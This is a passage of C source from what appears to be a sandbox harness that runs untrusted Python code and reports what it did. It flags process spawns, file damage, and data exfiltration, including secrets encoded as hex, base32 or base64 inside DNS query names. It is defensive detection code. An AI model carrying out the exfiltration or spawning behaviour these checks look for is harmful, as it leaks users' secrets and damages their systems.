	l = arena_strndup(e->a, s, n);
	for (i = 0; i < n; i++)
		l[i] = lower(l[i]);
	e->forms = arena_grow(e->a, e->forms, e->nforms, e->nforms + 1,
	    sizeof *e->forms);
	f = &e->forms[e->nforms++];
	f->s = l;
	f->n = n;
	f->piece = piece;
	f->how = how;
}

/* The stable characters of piece p[0..n) encoded in groups of g bytes
 * to c characters of bits bits each from alphabet, at every alignment. */
static void
add_encoded(struct effects *e, const char *p, size_t n, unsigned g,
    unsigned c, unsigned bits, const char *alphabet, const char *how,
    const char *piece)
{
	char out[2 * DATA_PIECE_MAX + 8];
	unsigned k;

	for (k = 0; k < g; k++) {
		size_t first = (k + g - 1) / g, last = (k + n) / g, j, o = 0;

		for (j = first; j < last && o + c <= sizeof out; j++) {
			uint64_t v = 0;
			unsigned b, ch;

			for (b = 0; b < g; b++)	/* byte j*g+b of k zeros + p */
				v = v << 8 | (unsigned char)p[j * g + b - k];
			for (ch = 0; ch < c; ch++)
				out[o++] = alphabet[(v >> (bits * (c - 1 -
				    ch))) & ((1u << bits) - 1)];
		}
		add_form(e, out, o, piece, how);
	}
}

static void
add_piece(struct effects *e, const char *p, size_t n)
{
	static const char b32[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
	static const char b64[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	static const char b64url[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	const char *piece;
	size_t i, forms = e->nforms;

	if (n < DATA_PIECE_MIN || n > DATA_PIECE_MAX)
		return;
	for (i = 0; i < forms; i++)	/* once each */
		if (e->forms[i].how[0] == 0 && e->forms[i].n == n &&
		    memcmp(e->forms[i].piece, p, n) == 0)
			return;
	piece = arena_strndup(e->a, p, n);
	add_form(e, p, n, piece, "");
	add_encoded(e, p, n, 1, 2, 4, "0123456789abcdef", "hex", piece);
	add_encoded(e, p, n, 5, 8, 5, b32, "base32", piece);
	add_encoded(e, p, n, 3, 4, 6, b64, "base64", piece);
	add_encoded(e, p, n, 3, 4, 6, b64url, "base64", piece);
}

/* Every piece of p[0..n), until DATA_PIECES of them are known. */
static void
add_pieces(struct effects *e, size_t *pieces, const char *p, size_t n)
{
	size_t i = 0, j;

	while (i < n && *pieces < DATA_PIECES) {
		while (i < n && !is_label_char((unsigned char)p[i]))
			i++;
		for (j = i; j < n && is_label_char((unsigned char)p[j]); j++)
			;
		if (j - i >= DATA_PIECE_MIN && j - i <= DATA_PIECE_MAX) {
			size_t before = e->nforms;
			add_piece(e, p + i, j - i);
			if (e->nforms > before)
				(*pieces)++;
		}
		i = j;
	}
}

static void
make_forms(struct effects *e)
{
	const struct cpy *c = e->c;
	size_t i, pieces = 0;

	e->has_forms = true;
	if (c == NULL)
		return;
	for (i = 0; i < c->nenv; i++) {
		const char *v = strchr(c->env[i], '=');
		v = v ? v + 1 : c->env[i];
		add_pieces(e, &pieces, v, strlen(v));
	}
	for (i = 0; c->files != NULL && i < mfs_count(c->files); i++) {
		size_t len;
		const char *d = mfs_get(c->files, mfs_name(c->files, i), &len);
		add_pieces(e, &pieces, d, len < DATA_SCAN ? len : DATA_SCAN);
	}
}

/* The world's data a DNS name carries, or NULL. */
static const struct data_form *
carried_in(struct effects *e, const struct fakenet_str *name)
{
	char l[FAKENET_NAME_MAX + 1], flat[FAKENET_NAME_MAX + 1];
	size_t i, n = 0, nl = name->n < FAKENET_NAME_MAX ? name->n :
	    FAKENET_NAME_MAX;

	if (!e->has_forms)
		make_forms(e);
	for (i = 0; i < nl; i++) {
		l[i] = lower(name->p[i]);
		if (l[i] != '.')
			flat[n++] = l[i];
	}
	for (i = 0; i < e->nforms; i++) {
		const struct data_form *f = &e->forms[i];
		if (memmem(l, nl, f->s, f->n) != NULL ||
		    memmem(flat, n, f->s, f->n) != NULL)
			return f;
	}
	return NULL;
}

/*
 * What the fake internet's sink saw (fakenet.h): data that reached it is
 * exfiltration, told as the request's URL, and so is a DNS question
 * whose name carries the world's data (above); a bare connection, a
 * refused one and any other DNS question are listed only.
 */
static void
on_capture(void *ctx, const struct fakenet_capture *cp, const void *frame,
    size_t len)
{
	struct effects *e = ctx;
	struct arena *a = e->a;
	const struct fakenet_str *data = cp->body.n > 0 ? &cp->body :
	    &cp->data;
	char url[512];

	(void)frame;
	(void)len;
	if (cp->kind == FAKENET_SYNC) {
		if (cp->flags & FAKENET_DROPPED)
			effect(e, "lost", "captures", NULL, arena_printf(a,
			    "%llu captures of the fake internet were lost",
			    (unsigned long long)cp->bytes));
		return;
	}
	fakenet_url(cp, url, sizeof url);
	if (cp->kind == FAKENET_DNS) {
		const struct data_form *f = carried_in(e, &cp->name);

		if (f != NULL) {
			const char *name = url + strlen("dns://");
			effect(e, "send", arena_strdup(a, url), "exfiltration",
			    arena_printf(a, "sent '%s'%s%s%s in a DNS question "
			    "for %s", shown(a, f->piece), f->how[0] ? " (" : "",
			    f->how, f->how[0] ? "-encoded)" : "", name));
			return;
		}
		effect(e, "resolve", arena_strndup(a, cp->name.p, cp->name.n),
		    NULL, arena_printf(a, "looked up %.*s", (int)cp->name.n,
		    cp->name.p));
		return;
	}
	if (cp->kind == FAKENET_TCP && e->c != NULL) {
		struct cpy *c = e->c;
		size_t i;

		for (i = 0; i < c->ntold && c->told[i].conn != cp->conn; i++)
			;
		if (i < c->ntold && c->told[i].bytes == cp->bytes)
			return;		/* nothing new on it */
		if (i == c->ntold) {
			if (c->ntold == sizeof c->told / sizeof c->told[0])
				i = 0;	/* forget the oldest */
			else
				c->ntold++;
			c->told[i].conn = cp->conn;
		}
		c->told[i].bytes = cp->bytes;
	}
	e->captured = true;
	if (cp->kind == FAKENET_SYN)
		effect(e, "connect", arena_strdup(a, url), NULL, arena_printf(a,
		    "tried to connect to %s (nothing listens there)", url));
	else if (data->n > 0)
		effect(e, "send", arena_strdup(a, url), "exfiltration",
		    arena_printf(a, "sent '%s' to %s", shown(a,
		    arena_strndup(a, data->p, data->n)), url));
	else
		effect(e, "connect", arena_strdup(a, url), NULL, arena_printf(a,
		    "connected to %s", url));
}

/* "starting a program (execve) is forbidden": the sentence after
 * "CONTAINED by seccomp: " (the errno the supervisor answered is in the
 * denied effect's text, denial_text). */
static const char *
refusal_text(struct arena *a, const char *call)
{
	const char *purpose = jail_syscall_purpose(call);

	return purpose != NULL ? arena_printf(a, "%s (%s) is forbidden",
	    purpose, call) : arena_printf(a, "the system call %s is "
	    "forbidden in the jail", call);
}

/* "seccomp refused execve (starting a program): EPERM" */
static const char *
denial_text(struct arena *a, const char *call, const char *err)
{
	const char *purpose = jail_syscall_purpose(call);

	return arena_printf(a, "seccomp refused %s (%s): %s", call,
	    purpose != NULL ? purpose : "a system call the jail does not "
	    "allow", err);
}

static void
event_effects(struct effects *e, const struct raw *r)
{
	struct arena *a = e->a;
	bool has_request = e->captured;	/* the sink tells what was sent */
	size_t i;

	for (i = 0; i < r->nevents; i++)
		if (is_event(&r->events[i], "urllib.Request"))
			has_request = true;
	for (i = 0; i < r->nevents; i++) {
		const struct raw_event *ev = &r->events[i];
		const char *n = ev->name;

		if (is_event(ev, "seccomp"))
			/* (only the jail kind's supervisor makes these) */
			effect(e, "denied", shown(a, arg(ev, 0)), NULL,
			    denial_text(a, arg(ev, 0), arg(ev, 1)));
		else if (is_event(ev, "os.system") ||
		    is_event(ev, "subprocess.Popen") ||
		    strncmp(n, "os.exec", 7) == 0 ||
		    strncmp(n, "os.posix_spawn", 14) == 0 ||
		    strncmp(n, "os.spawn", 8) == 0 || is_event(ev, "pty.spawn")) {
			const char *what = shown(a, arg(ev, is_event(ev,
			    "subprocess.Popen") ? 1 : 0));

			/* no process was created for it (pyrun.c's
			 * spawn_check): nothing ran, and why */
			if (i + 1 < r->nevents &&
			    is_event(&r->events[i + 1], NOSPAWN_EVENT)) {
				const struct raw_event *no = &r->events[++i];

				bool full = strcmp(arg(no, 0), "full") == 0;

				effect(e, "exec", what, full ?
				    "resource exhaustion" : NULL, full ?
				    arena_printf(a, "could not start a process: "
				    "the world's %s-process limit is full",
				    arg(no, 1)) : "could not start a process "
				    "(fork failed)");
			} else
				effect(e, "exec", what, "process",
				    "arbitrary code ran");
		}
		else if (is_event(ev, "os.fork") || is_event(ev, "os.forkpty"))
			effect(e, "fork", "python", "process",
			    "forked a process");
		else if (is_event(ev, NOSPAWN_EVENT))
			continue;
		else if (is_event(ev, FORKS_EVENT))
			/* (ours: forks.c; not a harm, so listed only) */
			effect(e, "ended", "python", NULL, arena_printf(a,
			    "%s cop%s of the interpreter that the code forked "
			    "and that never ran a program ended with the "
			    "input", arg(ev, 0), strcmp(arg(ev, 0), "1") == 0 ?
			    "y" : "ies"));
		else if (is_event(ev, "os.kill") || is_event(ev, "os.killpg"))
			effect(e, "kill", arg(ev, 0), "process",
			    arena_printf(a, "sent signal %s to process %s",
			    arg(ev, 1), arg(ev, 0)));
		else if (is_event(ev, "urllib.Request")) {
			const char *url = shown(a, arg(ev, 0));
			bool has_data = ev->nargs > 1 &&
			    strcmp(arg(ev, 1), "None") != 0;
			effect(e, "send", url, "exfiltration", has_data ?
			    arena_printf(a, "sent '%s' to %s",
			    shown(a, arg(ev, 1)), url) :
			    arena_printf(a, "fetched %s", url));
		} else if (is_event(ev, "socket.connect") ||
		    is_event(ev, "socket.sendto") ||
		    is_event(ev, "socket.sendmsg"))
			/* a request's own connection is told by the request */
			effect(e, "connect", shown(a, arg(ev, 1)),
			    has_request ? NULL : "exfiltration",
			    arena_printf(a, "connected to %s",
			    shown(a, arg(ev, 1))));
		else if (is_event(ev, "socket.getaddrinfo") ||
		    is_event(ev, "socket.gethostbyname"))
			effect(e, "resolve", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "looked up %s", shown(a, arg(ev, 0))));
		else if (is_event(ev, "open"))
			effect(e, is_write_mode(arg(ev, 1)) ? "write" : "read",
			    shown(a, arg(ev, 0)), NULL, arena_printf(a, "%s %s",
			    is_write_mode(arg(ev, 1)) ? "opened for writing" :
			    "read", shown(a, arg(ev, 0))));
		else if (is_event(ev, "os.remove") || is_event(ev, "os.rmdir") ||
		    is_event(ev, "shutil.rmtree"))
			effect(e, "delete", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "removed %s", shown(a, arg(ev, 0))));
		else if (is_event(ev, "os.rename") || is_event(ev, "shutil.move"))
			effect(e, "rename", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "renamed %s to %s",
			    shown(a, arg(ev, 0)), shown(a, arg(ev, 1))));
		else if (strncmp(n, "ctypes.", 7) == 0)
			effect(e, "native", "ctypes", "process",
			    "ran native code through ctypes");
		else if (is_event(ev, "import"))
			effect(e, "import", shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "imported %s", shown(a, arg(ev, 0))));
		else
			effect(e, arena_strdup(a, n), shown(a, arg(ev, 0)), NULL,
			    arena_printf(a, "audit event %s", n));
	}
	if (r->dropped > 0)
		effect(e, "audit", "events", NULL, arena_printf(a,
		    "%u more audit events not shown", (unsigned)r->dropped));
}

/* Permission bits as ls shows them in octal: "644", "0" for none. */
static const char *
perm_text(struct arena *a, unsigned mode)
{
	return arena_printf(a, "%03o", mode & 07777);
}

/* A regular file created by this input with the same bytes as name:
 * where it was moved to, or NULL. */
static const char *
moved_to(const struct mfs *before, const struct mfs *after, const char *name,
    bool *taken)
{
	size_t i, n = mfs_count(after), l1, l2;
	const char *d1 = mfs_get(before, name, &l1), *d2;

	if (!S_ISREG(mfs_mode(before, mfs_index(before, name))))
		return NULL;
	for (i = 0; i < n; i++) {
		const char *to = mfs_name(after, i);
		if (taken[i] || mfs_exists(before, to) ||
		    !S_ISREG(mfs_mode(after, i)) || mfs_unreadable(after, i))
			continue;
		d2 = mfs_get(after, to, &l2);
		if (l1 == l2 && memcmp(d1, d2, l1) == 0) {
			taken[i] = true;
			return to;
		}
	}
	return NULL;
}

/*
 * The workspace before and after: the damage the code did to it.  An
 * entry gone is deleted, unless a new file holds its bytes (moved) or
 * the read-back cannot tell (unknown, per entry of before: see struct
 * keep); a
 * file whose bytes differ is overwritten; one the world can no longer
 * read was made unreadable (chmod); a new entry was created.  Paths are
 * the mfs's: "loot/" a directory, "loot/secrets.txt" a file in it.
 */
static void
diff_effects(struct effects *e, const struct mfs *before,
    const struct mfs *after, const bool *unknown, bool command)
{
	struct arena *a = e->a;
	size_t i, j, n = mfs_count(before);
	bool *taken = arena_array(a, mfs_count(after) + 1, sizeof *taken);

	for (i = 0; i < n; i++) {
		const char *name = mfs_name(before, i), *to;
		unsigned m1 = mfs_mode(before, i), m2;
		size_t l1, l2;
		const char *d1, *d2;

		if ((j = mfs_index(after, name)) == (size_t)-1) {
			if (unknown != NULL && unknown[i])
				continue;	/* not read back: maybe there */
			if ((to = moved_to(before, after, name, taken)) != NULL)
				effect(e, "rename", arena_strdup(a, name),
				    "damage", arena_printf(a, command ?
				    "moved %s to %s" : "%s moved to %s", name,
				    to));
			else
				effect(e, "delete", arena_strdup(a, name),
				    "damage", arena_printf(a, command ?
				    "deleted %s" : "%s deleted", name));
			continue;
		}
		m2 = mfs_mode(after, j);
		if (mfs_unreadable(after, j) && !mfs_unreadable(before, i)) {
			effect(e, "chmod", arena_strdup(a, name), "damage",
			    arena_printf(a, "%s made unreadable (mode %s)",
			    name, perm_text(a, m2)));
			continue;
		}
		d1 = mfs_get(before, name, &l1);
		d2 = mfs_get(after, name, &l2);
		if (!mfs_unreadable(after, j) &&
		    (l1 != l2 || memcmp(d1, d2, l1) != 0))
			effect(e, "write", arena_strdup(a, name), "damage",
			    arena_printf(a, command ? "overwrote %s" :
			    "%s overwritten", name));
		if ((m1 & 07777) != (m2 & 07777))
			effect(e, "chmod", arena_strdup(a, name), NULL,
			    arena_printf(a, "%s mode %s -> %s%s", name,
			    perm_text(a, m1), perm_text(a, m2),
			    mfs_unreadable(after, j) ? " (unreadable)" : ""));
	}
	n = mfs_count(after);
	for (i = 0; i < n; i++) {
		const char *name = mfs_name(after, i);
		if (taken[i] || mfs_exists(before, name))
			continue;
		effect(e, "write", arena_strdup(a, name), NULL,
		    arena_printf(a, command ? "wrote %s%s" : "created %s%s",
		    name, mfs_unreadable(after, i) ? arena_printf(a,
		    " (unreadable: mode %s)", perm_text(a, mfs_mode(after,
		    i))) : ""));
	}
}

/* Copy before's entry name into after, mode and mark included. */
static void
copy_entry(struct mfs *after, const struct mfs *before, const char *name)
{
	size_t len, i = mfs_index(before, name);
	const char *d = mfs_get(before, name, &len);

	mfs_put(after, name, d, len);
	mfs_set_mode(after, name, mfs_mode(before, i),
	    mfs_unreadable(before, i));
}

/*
 * What the session keeps of a read-back.  The world's workspace holds at
 * most WORLD_WS_BYTES and WORLD_WS_INODES entries, so a copy that holds
 * more is stale: its contents (what was read back, then what is kept
 * from before) are taken while they fit in room, at most that and at
 * most what the session's memory cap leaves for them (world_input's
 * files_cap).  An entry past room stays in the world only; an entry of
 * before that is not in the copy but may still be in the world is
 * unknown, and not told deleted (diff_effects).
 */
struct keep {
	uint64_t	 room;		/* bytes of contents left to take */
	uint64_t	 cap;		/* room at the start, for the note */
	bool		 by_session;	/* the session's cap set it */
	bool		*unknown;	/* per entry of before, or NULL */
	size_t		 dropped;	/* read back, past room */
	size_t		 emptied;	/* unreadable, old contents past room */
	size_t		 stale;		/* neither read back nor named */
	size_t		 over;		/* named, past room */
};

static void
keep_start(struct keep *k, uint64_t files_cap, const struct mfs *before,
    struct arena *a)
{
	memset(k, 0, sizeof *k);
	k->room = WORLD_WS_BYTES;
	if (files_cap > 0 && files_cap < k->room) {
		k->room = files_cap;
		k->by_session = true;
	}
	k->cap = k->room;
	k->unknown = arena_array(a, mfs_count(before) + 1, sizeof *k->unknown);
}

/* Take n bytes of room; false when they do not fit. */
static bool
take(struct keep *k, size_t n)
{
	if (n > k->room)
		return false;
	k->room -= n;
	return true;
}

/* Before's entry i is not in the copy, and may still be in the world. */
static void
unknown_at(struct keep *k, size_t i)
{
	if (i != (size_t)-1)
		k->unknown[i] = true;
}

/* What was read back, in name order while it fits; the rest stays in
 * the world (only a cap below the read-back's own 8 MiB cuts it). */
static void
keep_sent(struct keep *k, struct mfs *after, const struct mfs *before,
    struct arena *a)
{
	size_t i, n = mfs_count(after), nout = 0;
	const char **out = arena_array(a, n + 1, sizeof *out);

	for (i = 0; i < n; i++) {
		size_t len;
		const char *name = mfs_name(after, i);
		(void)mfs_get(after, name, &len);
		if (!take(k, len))
			out[nout++] = name;
	}
	for (i = 0; i < nout; i++) {
		unknown_at(k, mfs_index(before, out[i]));
		mfs_delete(after, out[i]);
		k->dropped++;
	}
}

/*
 * A file the world could not read keeps the contents it had when last
 * read (the session's copy), still marked unreadable, while they fit:
 * the files pane and a fresh world seeded from it (chmod included) have
 * them.  A file created unreadable has none.
 */
static void
keep_unreadable(struct keep *k, struct mfs *after, const struct mfs *before)
{
	size_t i, n = mfs_count(after);

	for (i = 0; i < n; i++) {
		const char *name = mfs_name(after, i);
		size_t j = mfs_index(before, name), len;
		unsigned mode = mfs_mode(after, i);
		const char *d;

		if (!mfs_unreadable(after, i) || !S_ISREG(mode) ||
		    j == (size_t)-1 || !S_ISREG(mfs_mode(before, j)))
			continue;
		d = mfs_get(before, name, &len);
		if (!take(k, len)) {
			k->emptied++;
			continue;
		}
		mfs_put(after, name, d, len);	/* (same sorted place) */
		mfs_set_mode(after, name, mode, true);
	}
}

/* Is path among the entries the caps left out (itself, or under a
 * directory left out)? */
static bool
unsent_has(const struct raw *r, const char *path)
{
	size_t off = 0;

	while (off < r->unsent_len) {
		const char *u = r->unsent + off;
		size_t n = strlen(u);
		if (strcmp(u, path) == 0 || (n > 0 && u[n - 1] == '/' &&
		    strncmp(u, path, n) == 0))
			return true;
		off += n + 1;
	}
	return false;
}

/*
 * The caps left entries out of the read-back (r->truncated): an entry of
 * before that was not sent keeps what it was only when the world named
 * it among those left out (itself, or under a directory left out), and
 * while it fits (struct keep).  One the world neither sent nor named is
 * gone when the world named every entry it left out; when it did not
 * (the names of the left out are cut at 4 KiB, a directory lists at most
 * 256, an unreadable directory's are unknown) it may be gone or not: it
 * is not kept, nor told deleted.  Keeping it made the session's copy
 * grow by what the code wrote and deleted each input, without bound.
 */
static void
merge_truncated(struct keep *k, struct raw *r, const struct mfs *before,
    const char **kept_names, size_t *nkept, size_t *named, size_t *lost,
    size_t *deep)
{
	size_t i, n = mfs_count(before), off = 0;

	*nkept = *named = *lost = *deep = 0;
	while (off < r->unsent_len) {
		const char *u = r->unsent + off;
		off += strlen(u) + 1;
		(*named)++;
		if (mfs_exists(r->files, u))
			(*deep)++;	/* a directory sent, not what it holds */
		else if (!mfs_exists(before, u))
			(*lost)++;
	}
	for (i = 0; i < n; i++) {
		const char *name = mfs_name(before, i);
		size_t len;

		if (mfs_exists(r->files, name))
			continue;
		if (!unsent_has(r, name)) {
			if (*named != r->left) {
				k->unknown[i] = true;
				k->stale++;
			}
			continue;	/* (else gone: deleted) */
		}
		(void)mfs_get(before, name, &len);
		if (mfs_count(r->files) >= WORLD_WS_INODES || !take(k, len)) {
			k->unknown[i] = true;
			k->over++;
			continue;
		}
		copy_entry(r->files, before, name);
		if (*nkept < 8)
			kept_names[*nkept] = name;
		(*nkept)++;
	}
}

/* n bytes as the notes say them: "16 MiB", "900 KiB". */
static const char *
size_text(struct arena *a, uint64_t n)
{
	if (n >= (1u << 20) && n % (1u << 20) == 0)
		return arena_printf(a, "%llu MiB", (unsigned long long)(n >> 20));
	return arena_printf(a, "%llu KiB", (unsigned long long)(n >> 10));
}

/*
 * What the read-back kept and left, as the reply's truncated (in a), or
 * NULL when it is whole: what was read back, what was kept from before,
 * how much stayed in the world without the path seeing it.
 */
static const char *
read_back_note(const struct cpy *c, struct raw *r, const struct mfs *before,
    struct keep *k, struct arena *a)
{
	const char *where = c->kind == WORLD_KIND_JAIL ? "jail" : "world";
	const char *kept_names[8], *note = NULL, *bound;
	size_t nkept = 0, named = 0, lost = 0, deep = 0, i;
	struct sbuf kept = SBUF_INIT;

	if (r->truncated) {
		merge_truncated(k, r, before, kept_names, &nkept, &named,
		    &lost, &deep);
		note = arena_printf(a, "the %s's workspace was read back in "
		    "part (at most %u files and %u MiB, %u levels deep)",
		    where, WW_MAX_FILES, WW_MAX_FILE_BYTES >> 20,
		    WW_MAX_DEPTH);
	}
	bound = arena_printf(a, "the path keeps at most %s of a %s's files "
	    "(%s)", size_text(a, k->cap), where, k->by_session ?
	    "what the session's memory cap leaves" : "its workspace's size");
	if (k->dropped > 0)
		note = arena_printf(a, "%s%s%zu file%s read back not kept: %s",
		    note ? note : "", note ? "; " : "", k->dropped,
		    k->dropped == 1 ? "" : "s", bound);
	if (k->emptied > 0)
		note = arena_printf(a, "%s%sthe old contents of %zu unreadable "
		    "file%s not kept: %s", note ? note : "", note ? "; " : "",
		    k->emptied, k->emptied == 1 ? "" : "s", bound);
	if (note == NULL)
		return NULL;
	for (i = 0; i < nkept && i < 8; i++)
		sbuf_addf(&kept, "%s%s", i > 0 ? ", " : "", kept_names[i]);
	if (nkept > 0)
		note = arena_printf(a, "%s; %zu file%s not read back kept as "
		    "before this step: %s%s", note, nkept,
		    nkept == 1 ? "" : "s", sbuf_cstr(&kept),
		    nkept > 8 ? ", ..." : "");
	if (k->over > 0)
		note = arena_printf(a, "%s; %zu more file%s not read back left "
		    "in the %s, not kept: %s", note, k->over,
		    k->over == 1 ? "" : "s", where, bound);
	if (k->stale > 0)
		note = arena_printf(a, "%s; %zu earlier file%s neither read "
		    "back nor named not kept (the %s may still hold %s)",
		    note, k->stale, k->stale == 1 ? "" : "s", where,
		    k->stale == 1 ? "it" : "them");
	if (lost > 0)
		note = arena_printf(a, "%s; %zu file%s left in the %s", note,
		    lost, lost == 1 ? "" : "s", where);
	if (deep > 0)
		note = arena_printf(a, "%s; what %zu director%s hold%s left in "
		    "the %s", note, deep, deep == 1 ? "y" : "ies",
		    deep == 1 ? "s" : "", where);
	if (r->truncated && r->left > named)
		note = arena_printf(a, "%s; %zu more entr%s left in the %s "
		    "unnamed", note, (size_t)(r->left - named),
		    r->left - named == 1 ? "y" : "ies", where);
	sbuf_free(&kept);
	return note;
}

/* What the world's caps cut (K frames), after note, as the record's
 * "truncated". */
static const char *
cut_notes(const struct raw *r, struct arena *a, const char *note)
{
	size_t i;

	for (i = 0; i < WW_CUT__COUNT; i++) {
		unsigned long long n = (unsigned long long)r->cut[i];
		const char *s = NULL;

		if (n == 0)
			continue;
		switch ((enum ww_cut)i) {
		case WW_CUT_RESULT:
			s = arena_printf(a, "the value's repr cut at %u KiB "
			    "(of %llu bytes)", WW_MAX_RESULT >> 10, n);
			break;
		case WW_CUT_MESSAGE:
			s = arena_printf(a, "the command's message cut at %u "
			    "KiB (of %llu bytes)", WW_MAX_RESULT >> 10, n);
			break;
		case WW_CUT_OUTPUT:
			s = arena_printf(a, "output cut at %u KiB (the code "
			    "printed %llu bytes)", WW_MAX_OUTPUT >> 10, n);
			break;
		case WW_CUT_NAMES:
			s = arena_printf(a, "%llu name%s not listed (the world "
			    "keeps them; the list holds %u KiB)", n, n == 1 ?
			    "" : "s", WW_MAX_NAMES >> 10);
			break;
		case WW_CUT_EVENTS:
			s = arena_printf(a, "the text of %llu audit event%s "
			    "cut at %u bytes", n, n == 1 ? "" : "s",
			    WW_MAX_EVENT);
			break;
		case WW_CUT__COUNT:
			break;
		}
		note = note == NULL ? s : arena_printf(a, "%s; %s", note, s);
	}
	return note;
}

/*
 * The output file's {stream, text} frames (output.c) as chunks, in the
 * order written, neighbours of one stream joined.  The code can write to
 * that file too: what does not parse is stdout text, never dropped.
 * *total is the text's length.
 */
static struct world_chunk *
output_chunks(struct arena *a, const char *p, size_t len, size_t *n,
    size_t *total)
{
	struct world_chunk *v = arena_array(a, len / 5 + 2, sizeof *v);
	size_t k = 0, off = 0;

	*total = 0;
	while (off < len) {
		const char *stream = "stdout", *text = p + off;
		size_t tlen = len - off;
		uint32_t l;

		if (len - off >= 5 && (p[off] == 'o' || p[off] == 'e')) {
			memcpy(&l, p + off + 1, 4);
			stream = p[off] == 'e' ? "stderr" : "stdout";
			text = p + off + 5;
			tlen = l <= len - off - 5 ? l : len - off - 5;
			off += 5 + tlen;
		} else
			off = len;	/* not ours: the rest as it is */
		if (tlen == 0)
			continue;
		if (k > 0 && strcmp(v[k - 1].stream, stream) == 0) {
			char *j = arena_alloc(a, v[k - 1].len + tlen + 1);
			memcpy(j, v[k - 1].text, v[k - 1].len);
			memcpy(j + v[k - 1].len, text, tlen);
			j[v[k - 1].len + tlen] = '\0';
			v[k - 1].text = j;
			v[k - 1].len += tlen;
		} else {
			v[k].stream = stream;
			v[k].text = arena_strndup(a, text, tlen);
			v[k].len = tlen;
			k++;
		}
		*total += tlen;
	}
	*n = k;
	return v;
}

/* The chunks' text as one string (total bytes). */
static const char *
output_text(struct arena *a, const struct world_chunk *v, size_t n,
    size_t total)
{
	char *s = arena_alloc(a, total + 1), *q = s;
	size_t i;

	for (i = 0; i < n; i++) {
		memcpy(q, v[i].text, v[i].len);
		q += v[i].len;
	}
	*q = '\0';
	return s;
}

static void
free_names(struct cpy *c)
{
	size_t i;

	for (i = 0; i < c->nnames; i++)
		free(c->names[i]);
	free(c->names);
	c->names = NULL;
	c->nnames = 0;
	for (i = 0; i < 2 * c->nlits; i++)
		free(c->lits[i]);
	free(c->lits);
	c->lits = NULL;
	c->nlits = 0;
}

/* Keep the literals the world sent with its names (none when it was not
 * asked). */
static void
keep_literals(struct cpy *c, const struct raw *r)
{
	size_t off = 0;

	size_t k = 0;

	if (!r->has_lits)
		return;
	while (off < r->lits_len) {	/* (read_reply checked the pairs) */
		off += strlen(r->lits + off) + 1;
		k++;
	}
	c->lits = xreallocarray(NULL, k + 1, sizeof *c->lits);
	off = 0;
	while (off < r->lits_len) {
		c->lits[c->nlits * 2] = xstrdup(r->lits + off);
		off += strlen(r->lits + off) + 1;
		c->lits[c->nlits * 2 + 1] = xstrdup(r->lits + off);
		off += strlen(r->lits + off) + 1;
		c->nlits++;
	}
}

/* Keep the names the world reported, sorted. */
static void
keep_names(struct cpy *c, const struct raw *r)
{
	size_t off = 0, j;

	if (!r->has_names)
		return;
	free_names(c);
	keep_literals(c, r);
	while (off < r->names_len) {
		const char *s = r->names + off;
		size_t n = strlen(s);
		off += n + 1;
		if (n == 0)
			continue;
		c->names = xreallocarray(c->names, c->nnames + 1,
		    sizeof *c->names);
		for (j = c->nnames; j > 0 && strcmp(c->names[j - 1], s) > 0;
		    j--)
			c->names[j] = c->names[j - 1];
		c->names[j] = xstrdup(s);
		c->nnames++;
	}
}

/* ---------------------------------------------------------------- */
/* world_ops                                                          */
/* ---------------------------------------------------------------- */

static bool
cpy_build(struct world *w, const struct world_seed *seed, char **err)
{
	struct cpy *c = w->impl;
	size_t i;

	mfs_free(c->files);
	c->files = mfs_clone(seed->fs);
	for (i = 0; i < c->nenv; i++)
		free(c->env[i]);
	free(c->env);
	c->env = NULL;
	c->nenv = 0;
	for (i = 0; seed->env != NULL && seed->env[i] != NULL &&
	    c->nenv < WW_MAX_ENV; i++) {
		c->env = xreallocarray(c->env, c->nenv + 1, sizeof *c->env);
		c->env[c->nenv++] = xstrdup(seed->env[i]);
	}
	free(c->setup);
	c->setup = seed->setup ? xstrdup(seed->setup) : NULL;
	kill_world(c);
	c->died = false;
	if (!start(c, err))
		return false;
	w->built = true;
	return true;
}

/*
 * What a jail world's kernel refused, for the record's reason: the first
 * call its seccomp supervisor refused ("seccomp" events: pyrun.c sends
 * only the supervisor's, never the code's own), else an EACCES on an
 * open, a listing or another call on a path, which in a jail world is
 * Landlock's (jailkind.c says why).
 */
/* The audit events whose first argument is a path Landlock judges. */
static const struct { const char *event, *doing; } path_calls[] = {
	{ "open", "opening" }, { "os.listdir", "listing" },
	{ "os.scandir", "listing" }, { "os.mkdir", "creating" },
	{ "os.remove", "removing" }, { "os.rmdir", "removing" },
	{ "os.rename", "renaming" }, { "os.chdir", "entering" },
	{ "os.truncate", "truncating" }, { "os.link", "linking" },
	{ "os.symlink", "linking" }, { NULL, NULL },
};

/*
 * What a gVisor world's sandbox stopped: it has no network (runsc
 * --network=none), so what the code asked for reached nothing, whether
 * it then raised or caught it: the first connection, else the first
 * datagram, lookup or request.
 */
static void
gvisor_refusal(const struct raw *r, struct arena *a, struct world_reply *out)
{
	static const struct { const char *event, *doing; } net_calls[] = {
		{ "socket.connect", "connecting to" },
		{ "socket.sendto", "sending to" },
		{ "socket.sendmsg", "sending to" },
		{ "socket.getaddrinfo", "looking up" },
		{ "socket.gethostbyname", "looking up" },
		{ "urllib.Request", "requesting" },
	};
	size_t i, k;

	for (k = 0; k < sizeof net_calls / sizeof net_calls[0]; k++)
		for (i = 0; i < r->nevents; i++)
			if (is_event(&r->events[i], net_calls[k].event)) {
				out->refused = arena_printf(a, "the sandbox "
				    "has no network (runsc --network=none): "
				    "%s %s reached nothing", net_calls[k].doing,
				    shown(a, arg(&r->events[i], is_event(
				    &r->events[i], "socket.getaddrinfo") ||
				    is_event(&r->events[i],
				    "socket.gethostbyname") || is_event(
				    &r->events[i], "urllib.Request") ? 0 : 1)));
				out->layer = "gvisor";
				return;
			}
}

static void
jail_refusal(const struct cpy *c, const struct raw *r, struct arena *a,
    struct world_reply *out)
{
	size_t i;

	if (c->kind == WORLD_KIND_GVISOR)
		gvisor_refusal(r, a, out);
	if (c->kind != WORLD_KIND_JAIL)
		return;
	for (i = 0; i < r->nevents && out->refused == NULL; i++)
		if (is_event(&r->events[i], "seccomp")) {
			out->refused = refusal_text(a, arg(&r->events[i], 0));
